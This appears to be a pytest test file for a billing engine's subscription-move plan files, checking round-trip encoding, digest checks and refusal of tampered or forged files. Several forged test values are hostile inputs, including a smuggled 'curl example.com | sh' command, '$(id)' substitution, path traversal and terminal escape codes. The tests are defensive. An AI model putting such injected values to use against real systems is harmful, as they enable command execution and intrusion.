"""Plans of moves as bytes: the same every time, small, refused once touched."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import pytest

from engine.catalog import loader
from engine.errors import PlanFileError
from engine.plan.subscribers.file import (
    _digest,
    decode_moves,
    encode_moves,
    id_of_moves,
    is_moves_file,
    is_moves_name,
)
from engine.plan.subscribers.moves import Cohort, Money, Moves, Proration, Row, Skip, counts
from engine.plan.subscribers.outcome import Became, Moved, MovesReport
from engine.plan.subscribers.price_facts import PriceFacts, facts_of

SCHEMAS = loader.schemas()
ROWS = (
    Row("sub_1", "si_1", 0, 1, 3, "active"),
    Row("sub_2", "si_2", 0, 1, None, "trialing", invoiced=True),
    Row("sub_3", "si_3", 0, 1, 1, "active", canceling=True),
)
MOVES = Moves(
    engine_version="0.1.0",
    environment="live",
    embedded=False,
    account_id="acct_1",
    livemode=True,
    type="stripe_price",
    prices=(
        PriceFacts(id="price_a", currency="usd", unit="2900", interval="month", archived=True),
        PriceFacts(id="price_n", currency="usd", unit="3400", interval="month"),
    ),
    proration=Proration.NONE,
    cohort=Cohort(statuses=("active", "trialing"), metadata=("tier",), excluded=1),
    money=(
        Money(old=0, new=1, currency="usd", subscriptions=3, quantity=4, before="11600", after=""),
    ),
    left_out={"status": 4},
    rows=ROWS,
    skipped=(("sub_9", Skip.SCHEDULED),),
)


def read(raw: bytes) -> Moves:
    """The moves in some bytes."""
    return decode_moves(raw, SCHEMAS, path="move.plan")


def forged(change: Any) -> bytes:
    """The file after a change that also makes its digest anew."""
    first, *lines = encode_moves(MOVES).decode().split("\n")
    head = json.loads(first)
    lines = change(head, lines) or lines
    head["digest"] = _digest(head, lines[:-1])
    return "\n".join([json.dumps(head, separators=(",", ":")), *lines]).encode()


def test_it_is_read_as_it_was_written() -> None:
    """The same moves are the same bytes, with one line for each subscription."""
    raw = encode_moves(MOVES)
    assert (raw, is_moves_file(raw)) == (encode_moves(MOVES), True)
    assert read(raw) == MOVES
    lines = raw.decode().splitlines()[1:]
    assert lines == [
        '["sub_1","si_1",0,1,3,"active"]',
        '["sub_2","si_2",0,1,null,"trialing",true]',
        '["sub_3","si_3",0,1,1,"active",false,true]',
        '["sub_9","scheduled"]',
    ]
    digest = json.loads(raw.partition(b"\n")[0])["digest"]
    assert id_of_moves(raw) == f"moves_{digest[:12]}"
    assert is_moves_name(id_of_moves(raw))
    assert not any(map(is_moves_name, ("moves", "moves_of-the-shop", "shop")))
    assert not is_moves_file(b'{"file":"engine-plan",')


def test_what_it_moves_and_between_what() -> None:
    """By the places of the prices."""
    assert (MOVES.sources, MOVES.targets) == ((0,), (1,))
    assert counts(ROWS) == {(0, 1): (3, 4)}


@pytest.mark.parametrize("at", range(0, len(encode_moves(MOVES)), 37))
def test_a_byte_that_changed_is_noticed(at: int) -> None:
    """Wherever it is."""
    raw = bytearray(encode_moves(MOVES))
    raw[at] ^= 1
    with pytest.raises(PlanFileError, match=r"cannot be trusted|newer engine"):
        read(bytes(raw))


@pytest.mark.parametrize("cut", [1, 20, 40, 900])
def test_half_a_file_is_refused(cut: int) -> None:
    """As after a copy that was interrupted."""
    with pytest.raises(PlanFileError, match="cannot be trusted"):
        read(encode_moves(MOVES)[:-cut])


def test_a_newer_format_says_so() -> None:
    """And an unknown one is damage."""
    newer = encode_moves(MOVES).replace(b'"format_version":1', b'"format_version":7')
    with pytest.raises(PlanFileError, match="newer engine"):
        read(newer)
    with pytest.raises(PlanFileError, match="not whole"):
        read(newer.replace(b'"format_version":7', b'"format_version":"x"'))
    with pytest.raises(PlanFileError, match="not whole"):
        read(b"[]\n")


def _row(values: list[Any]) -> Any:
    def change(_: dict[str, Any], lines: list[str]) -> list[str]:
        return [json.dumps(values), *lines[1:]]

    return change


def _to_itself(head: dict[str, Any], _: list[str]) -> list[str]:
    head.update(moved=1, skipped=0)
    head["money"] = [{**head["money"][0], "old": 1, "new": 1, "subscriptions": 1, "quantity": 3}]
    return ['["sub_1","si_1",1,1,3,"active"]', ""]


def _without(name: str) -> Any:
    return lambda head, _: head.pop(name) and None


def _with(**fields: Any) -> Any:
    return lambda head, _: head.update(fields)


def _with_price(**fields: Any) -> Any:
    return lambda head, _: head["prices"][0].update(fields)


@pytest.mark.parametrize(
    "change",
    [
        _row(["sub_1", "si_1", 0, 1, 4, "active"]),
        _row(["sub_1", "si_1", 0, 2, 3, "active"]),
        _row(["sub_1", "si_1", 1, 1, 3, "active"]),
        _row(["sub_1", "si_1", 0, 1, 3, "canceled"]),
        _row(["sub_1", "si_1", 0, 1, -3, "active"]),
        _row(["sub_1", "si_1", 0, True, 3, "active"]),
        _row(["sub_1", "si_1", 0, 1, 3, "active", 1]),
        _row(["sub_1", "si_1", 0, 1, 3, "active", False, "yes"]),
        _row(["sub_2", "si_1", 0, 1, 3, "active"]),
        _row(["../accounts", "si_1", 0, 1, 3, "active"]),
        _row(["sub_1", 7, 0, 1, 3, "active"]),
        _row(["sub_1", "si_1"]),
        lambda _, lines: [*lines[:3], '["sub/9","scheduled"]', ""],
        lambda _, lines: [*lines[:3], '["sub_9","because"]', ""],
        lambda _, lines: [*lines[:3], "[7]", ""],
        _to_itself,
        _with(moved=1),
        _with(type="stripe_nosuch"),
        _with(proration="later"),
        _with(further=1),
        _with(undoes="../shop"),
        _with(environment="live; curl example.com | sh"),
        _with(account="acct_\x1b[31m"),
        _with(account="acct 1"),
        _with(key={"account": "$(id)", "livemode": True}),
        _with_price(stack="../shop"),
        _with_price(address="stripe_price.\x1b]0;"),
        _with_price(interval="mo\nnth"),
        _without("prices"),
    ],
)
def test_what_the_engine_does_not_write_is_refused(change: Any) -> None:
    """Also with a digest that fits."""
    with pytest.raises(PlanFileError, match="cannot be trusted"):
        read(forged(change))


def test_it_is_small() -> None:
    """A hundred thousand subscriptions are some megabytes."""
    rows = tuple(
        Row(f"sub_1{number:023d}", f"si_{number:014d}", 0, 1, 1, "active") for number in range(1000)
    )
    money = dataclasses.replace(MOVES.money[0], subscriptions=1000, quantity=1000)
    size = len(encode_moves(dataclasses.replace(MOVES, rows=rows, money=(money,))))
    assert size / 1000 < 70


def test_the_facts_of_a_price() -> None:
    """What one costs, and how often; nothing where that depends on the quantity."""
    month = {"interval": "month", "interval_count": 3, "usage_type": "licensed"}
    found = {"id": "price_a", "currency": "usd", "active": True, "recurring": month}
    fixed = facts_of({**found, "unit_amount": 2900}, "shop", "stripe_price.a")
    assert (fixed.unit, fixed.interval_count, fixed.archived) == ("2900", 3, False)
    dearer = {**found, "unit_amount": 2900, "currency_options": {"eur": {"unit_amount": 2800}}}
    assert facts_of(dearer).terms != fixed.terms
    named = {**found, "unit_amount": 2900, "nickname": "A", "active": False}
    assert facts_of(named).terms == fixed.terms
    tiered = facts_of({**found, "unit_amount": None, "billing_scheme": "tiered"})
    assert (tiered.unit, tiered.tiered, tiered.metered) == ("", True, False)


@pytest.mark.parametrize(
    ("became", "interrupted", "whole"),
    [
        (Became.MOVED, False, True),
        (Became.THERE, False, True),
        (Became.CHANGED, False, True),
        (Became.FAILED, False, False),
        (Became.NOT_BEGUN, False, False),
        (Became.MOVED, True, False),
    ],
)
def test_when_all_was_done(became: Became, *, interrupted: bool, whole: bool) -> None:
    """What is left alone for good is no failure."""
    ended = (Moved(ROWS[0], became),)
    report = MovesReport(name="a", moves=MOVES, ended=ended, interrupted=interrupted)
    assert report.is_whole is whole
    assert report.count(became) == 1
